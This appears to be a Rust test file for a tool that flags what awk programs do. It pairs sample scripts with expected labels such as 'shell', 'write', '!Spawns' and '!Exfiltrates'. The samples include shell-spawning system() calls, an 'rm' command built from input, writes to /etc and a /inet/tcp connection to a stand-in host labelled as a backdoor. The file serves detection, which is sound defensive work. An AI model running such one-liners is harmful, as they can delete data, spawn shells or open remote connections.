use super::{check, harmless};
use crate::command::Language::Awk;

#[test]
fn harmless_awk_passes() {
    harmless(
        Awk,
        &[
            "{print $1}",
            "{ print $1, $NF }",
            "{print}",
            "NR>1 && $3 > 5 {sum += $3 / 2} END {print sum}",
            "/\"system(\\\"id\\\")\"/ {print}",
            "BEGIN {FS=\":\"} $1 ~ /^[/\"]/ {print \"system(1) | sh\"}",
            "{ if ($1 > 3) print $2; else print $3 > \"/dev/stderr\" }",
            "{print ($1 > 3)}",
            "{a[$1]++} END {for (k in a) print k, a[k]}",
            "# system(\"id\")\n{print}",
            "!seen[$0]++",
            "{gsub(/[[:space:]\\/]+/, \" \"); print; next}",
            "$1 == \"a\" || $2 == \"b\" {print length($0) % 2}",
            "{while ((getline line) > 0) n++; print n}",
        ],
    );
}

#[test]
fn awk_that_does_more_says_what() {
    check(
        Awk,
        &[
            ("BEGIN{system(\"ls\")}", "shell ls"),
            ("BEGIN{system (\"l\\163\")}", "shell ls"),
            ("{system(\"rm \" $1)}", "!Spawns"),
            ("BEGIN{\"id\" | getline x}", "shell id"),
            ("BEGIN{c=\"id\"; while ((c | getline l) > 0) print l}", "shell id"),
            ("BEGIN{c=\"id\"; c=c \" | sh\"; c | getline}", "!Spawns"),
            ("{print $1 | \"sort\"}", "shell sort"),
            ("{print $1 | \"sh -c \" $2}", "!Spawns"),
            ("{print | $1}", "!Spawns"),
            ("{print $1}{system(\"id\")}", "shell id"),
            ("{print $1, $2 | $3}", "!Spawns"),
            ("BEGIN{printf \"x\" |& \"sh\"}", "shell sh"),
            ("{print > \"/etc/x\"}", "write /etc/x"),
            ("{print $2 >> \"out.txt\"}", "write out.txt"),
            ("{print > $1}", "write ?"),
            ("{print > \"/etc/\" $1}", "write ?"),
            ("BEGIN{while ((getline l < \"/etc/x\") > 0) print l}", "read /etc/x"),
            (
                "BEGIN{s=\"/inet/tcp/0/a.test/9\"; print \"x\" |& s; \"id\" | getline}",
                "connect a.test; !Exfiltrates; shell id; !Backdoor",
            ),
            ("@load \"filefuncs\"", "!Spawns"),
            ("BEGIN{f=\"x\"; @f()}", "!Evaluates"),
            ("/a/ { print \"x", "!Unclear"),
            ("/[/]/ {system(\"id\")} /]/", "shell id"),
            ("{x = 1 / 2; system(\"id\") / 1}", "shell id"),
            ("#x\nBEGIN{sys\\\ntem(\"id\")}", ""),
        ],
    );
}
